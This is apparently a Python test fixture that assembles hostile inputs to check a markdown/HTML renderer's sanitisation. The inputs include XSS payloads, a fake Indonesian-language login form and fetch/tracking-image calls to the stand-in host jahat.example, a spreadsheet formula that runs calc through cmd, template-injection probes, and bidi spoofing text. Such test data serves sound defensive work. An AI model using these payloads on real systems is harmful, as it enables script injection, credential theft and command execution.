"""Sixty texts that want to be more than texts: to load, to run, to look like ours, or to break."""

from tests.hostile import HOSTILE

AWAY = "https://jahat.example"
MORE = (
    f'<script src="{AWAY}/a.js"></script>',
    f"<iframe src='{AWAY}/b'></iframe>",
    '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>',
    f'<object data="{AWAY}/c.swf"></object><embed src="{AWAY}/c">',
    f'<link rel="stylesheet" href="{AWAY}/d.css"><style>*{{display:none}}</style>',
    f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    f'<form action="{AWAY}"><input name="sandi"><button>Masuk</button></form>',
    f"<video src={AWAY}/e.mp4 autoplay></video><audio src={AWAY}/e.mp3 autoplay>",
    f'<body onload="fetch(\'{AWAY}\')"><base href="{AWAY}/">',
    f"<svg><image href='{AWAY}/f.png'/><animate onbegin=alert(1) attributeName=x></svg>",
    f"<math><mtext><img src={AWAY}/g.png></mtext></math>",
    f"<a href='{AWAY}'>klik di sini</a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<<script>alert(1)//<</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    f"![pelacak]({AWAY}/h.png 'judul')",
    f"[![gambar]({AWAY}/i.png)]({AWAY})",
    f"[a]: {AWAY}/j 'x'\n\n![rujukan][a] [tautan][a]",
    f"<{AWAY}/k> dan {AWAY}/l?x=1&y=2 dan www.jahat.example dan surat@jahat.example",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[klik](vbscript:msgbox(1)) [lagi](JaVaScRiPt:alert(1)) [tab](java\tscript:alert(1))",
    "$\\rule{300em}{300em}$ $$\\includegraphics{x}$$ \\(x\\) \\[y\\]",
    "$$\n\\def\\a{\\a\\a}\\a\n$$",
    "## TERVERIFIKASI :green-badge[:material/verified: Resmi]",
    ":red-background[penting] :small[kecil] :rainbow[x] :streamlit: :smile: :gray[a",
    "| a | b |\n|---|---|\n| <b>c</b> | d |",
    "- [x] selesai\n1. satu\n> kutipan\n\n***\n~~coret~~ **tebal** _miring_ ^atas^",
    "~~~html\n<script>alert(1)</script>\n~~~\n    kode\n`<b>`",
    "Catatan[^1]\n\n[^1]: kaki <img src=x onerror=alert(1)>",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% include 'x' %} {nomor} {0}",
    "=1+1\n+1\n-1\n@SUM(1)\n\t=cmd|' /C calc'!A0",
    "\u202eJATUH TEMPO HARI INI\u202c \u2066kiri\u2069 \u200fkanan\u200e",
    "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg " + "\u0301" * 300,
    "لا إله إلا الله ﷽ ﷺ עברית ภาษาไทย 漢字 ꦲꦏ꧀ꦱꦫ ᬅᬓ᭄ᬱᬭ 𓀀",
    "👩‍👩‍👧‍👦🏳️‍🌈🇮🇩" * 50,
    "panjang" * 1_430,
    "<b>" * 3_300,
    ("![x](" + AWAY + ") ") * 300,
)
TEXTS = tuple(
    one.replace("\0", " ").encode("utf-8", "ignore").decode()[:10_000] for one in (*HOSTILE, *MORE)
)
